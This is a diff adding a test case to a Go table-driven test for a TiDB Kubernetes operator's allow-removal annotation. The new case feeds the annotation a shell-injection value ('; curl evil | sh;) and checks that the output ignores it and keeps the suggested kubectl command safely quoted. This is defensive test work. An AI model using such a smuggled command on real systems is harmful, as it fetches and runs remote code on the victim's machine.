@@ -273,6 +273,7 @@ func TestAGroupThatHoldsDataOutlivesItsEntry(t *testing.T) {
 		"its stores are in PD":                   {registered, nil, "False/EntryRemoved", []string{"its 3 stores are in PD and may hold regions", back, scale, "kubectl -n ns annotate --overwrite tidbcluster basic 'groups.tidb.dev/allow-removal=basic-tikv'"}, 1, 0},
 		"its operator says how many regions":     {counted, nil, "False/EntryRemoved", []string{"because its 3 stores hold about 740 region peers", back, scale}, 1, 0},
 		"consent to another one":                 {registered, allow("basic-tikv-old"), "False/EntryRemoved", []string{"'groups.tidb.dev/allow-removal=basic-tikv-old,basic-tikv'"}, 1, 0},
+		"consent with what is no name":           {registered, allow("'; curl evil | sh; ', basic-tikv-old"), "False/EntryRemoved", []string{"'groups.tidb.dev/allow-removal=basic-tikv-old,basic-tikv'"}, 1, 0},
 		"consent":                                {registered, allow("other, basic-tikv"), "True/UpToDate", nil, 0, 1},
 		"it is scaled to 0 and not there yet":    {leaving, nil, "False/Draining", []string{"TiKVGroup basic-tikv: store 1 is Offline"}, 1, 0},
 		"its scale to 0 is refused":              {func(s snapshot) { leaving(s); tell(tikv(s), step.Stall(v1alpha1.ReasonScaleInRefused, "too few")) }, nil, "False/ScaleInRefused", []string{"too few"}, 1, 0},
